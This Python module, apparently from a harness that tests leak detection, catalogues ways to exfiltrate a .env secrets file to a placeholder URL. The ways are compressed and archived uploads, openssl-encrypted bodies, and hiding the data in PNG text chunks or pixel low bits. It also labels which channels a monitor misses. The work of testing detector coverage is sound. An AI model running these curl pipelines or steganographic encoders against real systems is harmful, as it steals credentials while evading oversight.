"""Compressed, archived, encrypted, hidden in something else."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import lzma
import subprocess
import tarfile
import zipfile
import zlib

import brotli
import zstandard

from evasion.claim import Claim, Family
from evasion.sends.way import Way

_POST = 'noted curl -sS --data-binary @- "$URL"'
_CODED = 'noted curl -sS --data-binary @- -H "Content-Encoding: {}" "$URL"'
_PNG = """python 'import struct, zlib
def chunk(kind, data):
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))
note()
head = chunk(b"IHDR", struct.pack("!IIBBBBB", 64, 64, 8, 0, 0, 0, 0))
text = {text}
pixels = {pixels}
rows = b"".join(b"\\0" + pixels[row * 64 : row * 64 + 64] for row in range(64))
data = chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")
post(b"\\x89PNG\\r\\n\\x1a\\n" + head + text + data, content_type="image/png")
'"""


def _unzip(body: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read(".env")


def _untar(body: bytes) -> bytes:
    with tarfile.open(fileobj=io.BytesIO(body)) as archive:
        member = archive.extractfile(".env")
        return member.read() if member else b""


def _decrypt(body: bytes) -> bytes:
    command = ("openssl", "enc", "-d", "-aes-256-cbc", "-pbkdf2", "-k", "x")
    return subprocess.run(command, input=body, capture_output=True, check=True).stdout


def _unseal(body: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return archive.read(".env", pwd=b"x")


def _text_chunk(body: bytes) -> bytes:
    start = b"zTXtComment\0\0"
    return zlib.decompressobj().decompress(body[body.index(start) + len(start) :])


def _low_bits(body: bytes) -> bytes:
    data = zlib.decompressobj().decompress(body[body.index(b"IDAT") + 4 :])
    pixels = b"".join(data[row * 65 + 1 : row * 65 + 65] for row in range(64))
    bits = "".join(str(pixel & 1) for pixel in pixels)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


PACKED = Family(
    "Compressed, archived, encrypted, hidden",
    (
        Way(
            id="gzip",
            title="Content-Encoding: gzip",
            script=f"gzip -c .env | {_CODED.format('gzip')}",
            opened=gzip.decompress,
        ),
        Way(
            id="deflate",
            title="Content-Encoding: deflate",
            script="python 'import zlib; note(); post(zlib.compress(secret().encode()), content_encoding=\"deflate\")'",
            opened=zlib.decompress,
        ),
        Way(
            id="br",
            title="Content-Encoding: br",
            script="python 'import brotli; note(); post(brotli.compress(secret().encode()), content_encoding=\"br\")'",
            opened=brotli.decompress,
        ),
        Way(
            id="zstd",
            title="Content-Encoding: zstd",
            script=f"zstd -q -c .env | {_CODED.format('zstd')}",
            opened=lambda body: zstandard.ZstdDecompressor().decompressobj().decompress(body),
            needs=("zstd",),
        ),
        Way(id="gzip-bare", title="`gzip`, not said", script=f"gzip -c .env | {_POST}", opened=gzip.decompress),
        Way(
            id="gzip-base64",
            title="`gzip`, then `base64`",
            script=f"gzip -c .env | base64 | {_POST}",
            opened=lambda body: gzip.decompress(base64.b64decode(body)),
        ),
        Way(
            id="zstd-bare",
            title="`zstd`, not said",
            script=f"zstd -q -c .env | {_POST}",
            opened=lambda body: zstandard.ZstdDecompressor().decompressobj().decompress(body),
            needs=("zstd",),
        ),
        Way(id="xz", title="`xz`", script=f"xz -c .env | {_POST}", opened=lzma.decompress, needs=("xz",)),
        Way(id="bzip2", title="`bzip2`", script=f"bzip2 -c .env | {_POST}", opened=bz2.decompress, needs=("bzip2",)),
        Way(
            id="zip",
            title="`zip`, uploaded",
            script='zip -q all.zip .env; noted curl -sS -T all.zip "$URL"',
            opened=_unzip,
            needs=("zip",),
        ),
        Way(
            id="zip-form",
            title="`zip`, in a form",
            script='zip -q all.zip .env; noted curl -sS -F "file=@all.zip" "$URL"',
            opened=lambda body: _unzip(body.partition(b"\r\n\r\n")[2]),
            needs=("zip",),
        ),
        Way(id="tar", title="`tar`", script=f"tar -cf - .env | {_POST}", opened=_untar),
        Way(id="tar-gz", title="`tar -z`", script=f"tar -czf - .env | {_POST}", opened=_untar),
        Way(
            id="zip-locked",
            title="`zip` with a password",
            script='zip -q -P x all.zip .env; noted curl -sS -T all.zip "$URL"',
            opened=_unseal,
            needs=("zip",),
            claim=Claim.GAP,
            gap="opaque-body",
            remark="encrypted: that it cannot be read is recorded",
        ),
        Way(
            id="aes",
            title="`openssl enc`",
            script=f"openssl enc -aes-256-cbc -pbkdf2 -k x -in .env | {_POST}",
            opened=_decrypt,
            needs=("openssl",),
            claim=Claim.GAP,
            gap="opaque-body",
            remark="encrypted: that it cannot be read is recorded",
        ),
        Way(
            id="aes-base64",
            title="`openssl enc -a`",
            script=f"openssl enc -a -aes-256-cbc -pbkdf2 -k x -in .env | {_POST}",
            opened=lambda body: _decrypt(base64.b64decode(body)),
            needs=("openssl",),
            claim=Claim.GAP,
            remark="encrypted: that it cannot be read is recorded",
            gap="opaque-body",
        ),
        Way(
            id="png-text",
            title="a text chunk of a PNG",
            script=_PNG.format(text='chunk(b"tEXt", b"Comment\\0" + secret().encode())', pixels="bytes(4096)"),
        ),
        Way(
            id="png-ztext",
            title="a compressed text chunk of a PNG",
            script=_PNG.format(
                text='chunk(b"zTXt", b"Comment\\0\\0" + zlib.compress(secret().encode()))', pixels="bytes(4096)"
            ),
            opened=_text_chunk,
            claim=Claim.MISSED,
            remark="what is compressed within a file of another kind is not undone",
        ),
        Way(
            id="png-pixels",
            title="the lowest bits of a picture's pixels",
            script=_PNG.format(
                text='b""',
                pixels='bytes(0x80 | int(b) for b in "".join(f"{c:08b}" for c in secret().encode()).ljust(4096, "0"))',
            ),
            opened=_low_bits,
            claim=Claim.MISSED,
            remark="a picture is a picture",
        ),
    ),
)
